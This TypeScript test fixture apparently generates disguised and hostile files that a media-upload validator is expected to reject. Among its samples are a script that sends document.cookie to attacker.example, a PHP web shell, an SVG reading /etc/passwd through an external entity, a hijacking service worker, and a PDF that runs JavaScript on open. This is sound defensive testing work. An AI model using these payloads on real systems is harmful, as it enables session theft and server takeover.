import { deflateRawSync } from 'node:zlib'
import { type HostileFile, refused } from './hostile-file.ts'
import { box, pngSignature, riff, riffChunk } from './pieces.ts'
import type { Sample } from './samples.ts'

/** Returns the family of a type. MP4 and MOV are one: each may have the other's name. */
const familyOf = (contentType: string): string => contentType.replace('quicktime', 'mp4')

/** Files that pretend to be something else: by their name, their declared type, or both. */
export function* lies(all: readonly Sample[]): Generator<HostileFile> {
  const names = ['jpeg', 'png', 'gif', 'webp', 'film-mp4', 'film-mov', 'film-webm', 'film-avi']
  const kinds = names.flatMap((name) => all.find((sample) => sample.name === name) ?? [])
  for (const real of kinds) {
    for (const claimed of kinds) {
      if (familyOf(real.contentType) === familyOf(claimed.contentType)) continue
      const why = `${real.contentType} is not ${claimed.contentType}`
      yield refused(`${real.name} as ${claimed.name}`, `lie.${claimed.extension}`, claimed.contentType, real.bytes, why)
    }
    const other = kinds.find(({ contentType }) => familyOf(contentType) !== familyOf(real.contentType))
    if (!other) continue
    const { contentType } = other
    yield refused(
      `${real.name}, declared as ${contentType}`,
      `lie.${real.extension}`,
      contentType,
      real.bytes,
      'the type that is said differs',
    )
    yield refused(
      `${real.name}, named .${other.extension}`,
      `lie.${other.extension}`,
      real.contentType,
      real.bytes,
      'the name differs',
    )
    yield refused(`${real.name}, named .html`, 'lie.html', real.contentType, real.bytes, 'a picture is not named so')
  }
  for (const [name, bytes] of strangers()) {
    for (const [extension, contentType] of [
      ['png', 'image/png'],
      ['jpg', 'image/jpeg'],
      ['mp4', 'video/mp4'],
    ] as const) {
      yield refused(
        `${name} as ${extension}`,
        `lie.${extension}`,
        contentType,
        bytes,
        `${name} is not an accepted media type`,
      )
    }
  }
  for (const [name, fileName, declared] of honest) {
    const bytes = strangers().get(name) ?? Buffer.alloc(0)
    yield refused(`${name} as what it is`, fileName, declared, bytes, `${name} is not an accepted media type`)
  }
}

const honest = [
  ['html', 'page.html', 'text/html'],
  ['svg', 'drawing.svg', 'image/svg+xml'],
  ['heic', 'photo.heic', 'image/heic'],
  ['avif', 'photo.avif', 'image/avif'],
  ['matroska', 'film.mkv', 'video/x-matroska'],
  ['zip', 'archive.zip', 'application/zip'],
  ['empty', 'nothing', 'application/octet-stream'],
] as const

/** Files that no network accepts and that browsers would execute. */
function strangers(): ReadonlyMap<string, Buffer> {
  const script = '<script>fetch("//attacker.example/"+document.cookie)</script>'
  const zip = deflateRawSync(Buffer.from(script))
  return new Map([
    ['html', Buffer.from(`<!doctype html><html><body>${script}</body></html>`)],
    ['html behind blanks', Buffer.from(`\n\n   \t<html>${script}`)],
    [
      'javascript',
      Buffer.from('self.addEventListener("fetch", (event) => event.respondWith(new Response("taken over")))'),
    ],
    ['svg', Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`)],
    [
      'svg with a head',
      Buffer.from(`<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg>&a;</svg>`),
    ],
    [
      'exe',
      Buffer.concat([
        Buffer.from('MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff', 'latin1'),
        Buffer.alloc(200),
        Buffer.from('PE\0\0'),
      ]),
    ],
    ['elf', Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(120)])],
    ['zip', Buffer.concat([Buffer.from('PK\x03\x04\x14\0\0\0\x08\0', 'latin1'), Buffer.alloc(20), zip])],
    [
      'pdf',
      Buffer.from('%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF'),
    ],
    [
      'mp3',
      Buffer.concat([
        Buffer.from('ID3\x04\0\0\0\0\0\x0a', 'latin1'),
        Buffer.alloc(10),
        Buffer.from('fffb9064', 'hex'),
        Buffer.alloc(417),
      ]),
    ],
    [
      'heic',
      Buffer.concat([
        box('ftyp', 'heic', Buffer.alloc(4), 'mif1heic'),
        box('meta', Buffer.alloc(40)),
        box('mdat', Buffer.alloc(80)),
      ]),
    ],
    [
      'avif',
      Buffer.concat([
        box('ftyp', 'avif', Buffer.alloc(4), 'avifmif1'),
        box('meta', Buffer.alloc(40)),
        box('mdat', Buffer.alloc(80)),
      ]),
    ],
    [
      'matroska',
      Buffer.concat([
        Buffer.from('1a45dfa38b4282886d6174726f736b61', 'hex'),
        Buffer.from('18538067ff', 'hex'),
        Buffer.alloc(40),
      ]),
    ],
    ['wave', riff('WAVE', riffChunk('fmt ', Buffer.alloc(16)), riffChunk('data', Buffer.alloc(64)))],
    ['tiff', Buffer.concat([Buffer.from('II*\0\x08\0\0\0', 'latin1'), Buffer.alloc(60)])],
    ['bmp', Buffer.concat([Buffer.from('BM'), Buffer.alloc(80, 1)])],
    ['icon', Buffer.concat([Buffer.from('00000100010010100000', 'hex'), Buffer.alloc(80)])],
    ['plain text', Buffer.from('Buy two, get one. '.repeat(40))],
    ['one byte', Buffer.from('G')],
    ['zeros', Buffer.alloc(5_000)],
    ['the signature of a PNG alone', pngSignature],
    ['the first bytes of a JPEG alone', Buffer.from('ffd8ffe0', 'hex')],
    ['php', Buffer.from('<?php system($_GET["c"]); ?>')],
    ['empty', Buffer.alloc(0)],
  ])
}
